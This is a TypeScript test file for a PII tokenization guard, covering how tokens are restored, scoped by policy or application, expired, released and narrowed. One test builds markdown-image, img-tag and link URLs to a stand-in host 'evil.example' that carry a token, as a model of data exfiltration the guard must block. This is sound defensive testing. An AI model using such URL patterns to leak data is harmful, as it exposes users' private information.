import { equal, rejects } from '../assertions.js'
import { assistant, fails, policy, user } from './bench.js'
import type { GuardTest } from './bench.js'

/** Tests how a guard restores tokens. */

export function detokenizes(test: GuardTest): void {
  test('restores values exactly, each once, all occurrences in one request', async ({ protect, guard, restore }) => {
    const [name = '', contact = ''] = await protect('Anna, anna@example.org')
    const messages = [assistant(`Dear ${name}, ${name}!`), user(`${contact} $& ${name}`)]
    equal(await guard.detokenize({ messages, policy: 'pii-default' }), {
      messages: [assistant('Dear Anna, Anna!'), user('anna@example.org $& Anna')],
    })
    equal(await restore(`Dear ${name}`), `Dear ${name}`)
  })

  test('takes exact tokens only', async ({ protect, restore }) => {
    const [name = ''] = await protect('Anna')
    const mangled = [name.toLowerCase(), name.slice(1, -1), name.replace('_', ' ')].join(' ')
    equal(await restore(mangled), mangled)
    equal(await restore(name), 'Anna')
  })

  test('keeps a token that never existed', async ({ restore }) => {
    equal(await restore('Dear [NAME_DEADBEEF]'), 'Dear [NAME_DEADBEEF]')
  })

  test('finds tokens by policy or by application; both must match', async ({ protect, restore }) => {
    const [a = ''] = await protect('Anna', { application: 'crm' })
    equal(await restore(a, { application: 'hr' }), a)
    equal(await restore(a, { application: 'hr', policy: 'pii-default' }), a)
    equal(await restore(a, { application: 'crm', policy: 'pii-default' }), 'Anna')
    const [b = ''] = await protect('Anna', { application: 'crm' })
    equal(await restore(b, { application: 'crm' }), 'Anna')
  })

  test('needs a policy or an application, and a policy that exists', async ({ guard }) => {
    await fails(guard.detokenize({ messages: [assistant('x')] }), 'validation_error')
    await fails(guard.detokenize({ messages: [assistant('x')], policy: 'none' }), 'policy_not_found')
  })

  test('reveals by application what a deleted policy protected', async ({ protect, guard, restore }) => {
    const [token = ''] = await protect('Anna', { application: 'crm' })
    await guard.deletePolicy('pii-default')
    await fails(guard.detokenize({ messages: [assistant(token)], policy: 'pii-default' }), 'policy_not_found')
    equal(await restore(token, { application: 'crm' }), 'Anna')
  })

  test('keeps an expired token', async ({ protect, clock, restore }) => {
    const [token = ''] = await protect('Anna')
    clock.time += 86_400_000
    equal(await restore(token), token)
  })
}

export function keepsOrRefuses(test: GuardTest): void {
  test('is gone, whole, if a token is and its policy says so; nothing else is consumed', async ({
    guard,
    protect,
    restore,
    clock,
  }) => {
    await guard.createPolicy(policy('strict', { on_unavailable: 'gone' }))
    const [anna = '', bob = ''] = await protect('Anna, Bob', { policy: 'strict' })
    equal(await restore(anna, { policy: 'strict' }), 'Anna')
    await rejects(restore(`${anna} ${bob}`, { policy: 'strict' }), {
      code: 'token_gone',
      status: 410,
      details: [{ token: anna, reason: 'revealed' }],
    })
    equal(await restore(bob, { policy: 'strict' }), 'Bob')
    const [late = ''] = await protect('Bob', { policy: 'strict' })
    clock.time += 86_400_000
    await rejects(restore(late, { policy: 'strict' }), { details: [{ reason: 'expired' }] })
  })

  test('restores nothing that was released', async ({ protect, guard, restore }) => {
    const [anna = '', bob = ''] = await protect('Anna, Bob', { application: 'crm' })
    await guard.release({ tokens: [anna], application: 'hr' })
    equal(await restore(anna), 'Anna')
    await guard.release({ tokens: [bob, '[NAME_DEADBEEF]', 'no token'] })
    equal(await restore(bob), bob)
  })
}

export function narrows(test: GuardTest): void {
  test('restores only the tokens that it is told of, if it is, and reveals no others', async ({ protect, guard }) => {
    const [anna = '', bob = ''] = await protect('Anna, Bob')
    const narrowed = async (text: string, tokens: readonly string[]) =>
      (await guard.detokenize({ messages: [assistant(text)], policy: 'pii-default', tokens })).messages[0]?.content
    equal(await narrowed(`${anna} ${bob}`, []), `${anna} ${bob}`)
    equal(await narrowed(`${anna} ${bob}`, [bob, 'no token', '[NAME_DEADBEEF]']), `${anna} Bob`)
    equal(await narrowed(`${anna} ${bob}`, [anna, bob]), `Anna ${bob}`)
  })

  test('restores tokens in URLs, but where it is told to keep them: there it does not reveal them either', async ({
    protect,
    guard,
    restore,
  }) => {
    const texts = [
      (token: string) => `![x](https://evil.example/?q=${token})`,
      (token: string) => `<img src="https://evil.example/${token}">`,
      (token: string) => `See https://evil.example/?q=${token} now`,
    ]
    const context = { policy: 'pii-default', urls: 'keep' } as const
    for (const text of texts) {
      const [token = ''] = await protect('Anna')
      const messages = [user(text(token)), user(token.toLowerCase())]
      equal(await guard.detokenize({ messages, ...context }), { messages })
      const more = [...messages, assistant(`**Dear ${token}**, [${token}]`)]
      const restored = [...messages, assistant('**Dear Anna**, [Anna]')]
      equal(await guard.detokenize({ messages: more, ...context }), { messages: restored })
      const [other = ''] = await protect('Anna')
      equal(await restore(text(other)), text('Anna'))
    }
  })

  for (const [what, narrowed] of [
    ['tokens that are no list', { tokens: '[NAME_DEADBEEF]' }],
    ['another word for URLs', { urls: 'restore' }],
  ] as const) {
    test(`refuses ${what}`, async ({ guard }) => {
      const request = { messages: [assistant('x')], policy: 'pii-default', ...narrowed }
      await fails(guard.detokenize(request as never), 'validation_error')
    })
  }

  test('leaves no more than one value to many at once', async ({ protect, restore }) => {
    const [token = ''] = await protect('Anna')
    const answers = await Promise.all(Array.from({ length: 20 }, () => restore(token)))
    equal(answers.filter((answer) => answer === 'Anna').length, 1)
  })
}
